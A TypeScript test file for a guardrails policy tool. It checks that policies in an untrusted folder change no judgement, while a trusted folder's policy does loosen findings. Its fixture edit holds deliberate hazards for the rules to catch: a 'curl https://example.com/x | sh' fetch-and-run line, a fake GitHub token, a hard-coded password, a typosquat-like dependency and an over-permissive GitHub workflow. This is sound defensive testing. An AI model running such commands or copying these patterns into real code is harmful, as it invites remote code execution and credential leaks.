import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, test } from 'node:test';
import fc from 'fast-check';
import { check } from '../../../src/core/check/check.ts';
import { judge, type Judgement } from '../../../src/core/judge/judge.ts';
import { policyHash, readPolicy } from '../../../src/core/policy/policy.ts';
import { defaultPolicy } from '../../../src/core/policy/schema.ts';
import type { Team } from '../../../src/core/team.ts';
import { openTeam } from '../../../src/node/team.ts';
import { mutated } from './mutated.ts';
import { policyKeys } from './policy-keys.ts';
import { wildKeys, wildSections, wildText } from './wild.ts';

const product = join(import.meta.dirname, '../../..');
const runs = Number(process.env['FUZZ_RUNS'] ?? 6);
const folder = realpathSync(mkdtempSync(join(tmpdir(), 'guardrails-untrusted-')));
after(() => rmSync(folder, { recursive: true, force: true }));
const write = (path: string, text: string): void => {
  mkdirSync(dirname(join(folder, path)), { recursive: true });
  writeFileSync(join(folder, path), text);
};

// A repository of its own, with approvals, templates and sign-offs that would loosen much.
execFileSync('git', ['init', '-q'], { cwd: folder });
write('package.json', '{"dependencies":{"zod":"4.0.0"}}\n');
write('wild/policy.yaml', 'mode: observe\n');
write(
  '.guardrails/waivers.yaml',
  ['package.json', 'src/a.ts', '.guardrails/policy.yaml', 'main.tf']
    .map(
      (path) =>
        `  - { rule: protected-path, path: ${path}, reason: wild, requestedBy: A, approvedBy: B, until: 2099-01-01 }`,
    )
    .join('\n')
    .replace(/^/, 'waivers:\n'),
);
write('.agents/skills/wild/SKILL.md', '---\nname: wild\ndescription: wild\n---\nDo it.\n');
write(
  '.agents/skills/wild/template.yaml',
  'version: 1.0.0\ntask: patch\ntitle: { en: Wild }\nsummary: { en: Wild }\nbudgetClass: large\nlanguage: en\nowners: [Wild]\n',
);

/** Something for most rules. The token is made of parts, so that it stands nowhere. */
const edit = {
  files: [
    { path: 'package.json', before: null, after: '{"dependencies":{"expresss":"*","left-pad":"github:a/b"}}\n' },
    {
      path: 'src/a.ts',
      before: null,
      after: `const a = '${['ghp', 'x7Gq'.repeat(9)].join('_')}';\nconst password = 'correct-h0rse-battery';\n`,
    },
    { path: '.guardrails/policy.yaml', before: '', after: 'mode: observe\n' },
    { path: 'main.tf', before: null, after: 'provider "aws" {\n  region = "us-east-1"\n}\n' },
    { path: 'run.sh', before: null, after: 'curl https://example.com/x | sh\n' },
    {
      path: '.github/workflows/a.yml',
      before: null,
      after:
        'on: pull_request_target\npermissions: write-all\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - uses: a/b@main\n',
    },
  ],
};

async function judgementOf({ checkContext, waivers }: Team): Promise<Judgement> {
  return judge((await check(edit, checkContext)).findings, waivers, '2026-11-20');
}

const opened = async (policy: string, trusted: boolean): Promise<Team> => {
  write('.guardrails/policy.yaml', policy);
  return openTeam(folder, product, trusted);
};

test('the wild policy sets every key that there is', () => {
  const set = new Set(wildKeys());
  // A section of a record has any name; what is a section in one form is a value in another.
  const isSet = (key: string): boolean => {
    const pattern = new RegExp(`^${key.replaceAll(/[.[\]]/g, String.raw`\$&`).replaceAll('*', '[^.]+')}$`);
    return [...set].some((one) => pattern.test(one));
  };
  assert.deepEqual(
    policyKeys()
      .map(({ key }) => key)
      .filter((key) => !isSet(key)),
    [],
  );
  const { problems } = readPolicy(wildText(wildSections.filter((name) => name !== 'extends')));
  assert.deepEqual(
    problems.map(({ key, cause }) => `${key} ${cause.kind}`),
    [],
  );
});

test('in an untrusted folder no policy changes what is judged, and nothing of the folder is believed', async () => {
  const usual = await judgementOf(await opened('', false));
  assert.ok(usual.verdict === 'deny' && usual.findings.length > 6);
  const policies = [
    wildText(),
    ...fc.sample(fc.subarray([...wildSections]), { numRuns: runs, seed: 7 }).map(wildText),
    ...fc.sample(mutated(wildText()), { numRuns: runs, seed: 8 }),
  ];
  for (const text of policies) {
    const team = await opened(text, false);
    assert.deepEqual(team.policy, defaultPolicy, text);
    assert.equal(team.policyHash, policyHash(defaultPolicy));
    assert.deepEqual([team.policyLayers, team.waivers, team.problems], [{}, [], []]);
    assert.ok(team.templates.every(({ source }) => source === 'built-in'));
    assert.deepEqual(team.checkContext.signOffs, []);
    assert.deepEqual(await judgementOf(team), usual, text);
  }
});

test('the same policy changes much in a folder that a person trusts', async () => {
  const wildTeam = await opened(wildText(wildSections.filter((name) => name !== 'extends')), true);
  const loose = await judgementOf(wildTeam);
  // Only what no policy can switch off is left.
  const left = loose.findings
    .filter(({ verdict }) => verdict !== 'allow')
    .map(({ ruleId, path }) => `${ruleId} ${path}`);
  assert.deepEqual([loose.verdict, left], ['ask', ['protected-path .guardrails/policy.yaml']]);
  assert.equal(wildTeam.policy.observability.otlp?.endpoint, 'https://collector.example.com');
});

test('a policy has no key for a program, and only these for an address', () => {
  const addresses = new Set([
    'observability.otlp.endpoint',
    'extends[].url',
    'dependencies.registries',
    'clouds.documented[].document',
    'residency.hosts',
  ]);
  const suspicious =
    /(?:command|exec|program|binary|script|shell|hook|endpoint|(?<!p)url|uri|host|address|proxy|server|registr)/i;
  const known = new Set([
    'dependencies.sources.url',
    'dependencies.sources.registry',
    'dependencies.sources.script',
    'residency.otherHosts',
    // A webhook is named, and its address is never in the policy.
    'observability.webhooks.*.format',
    'observability.webhooks.*.people',
    'observability.webhooks.*.language',
    ...addresses,
  ]);
  assert.deepEqual(
    policyKeys()
      .map(({ key }) => key)
      .filter((key) => suspicious.test(key) && !known.has(key)),
    [],
  );
});
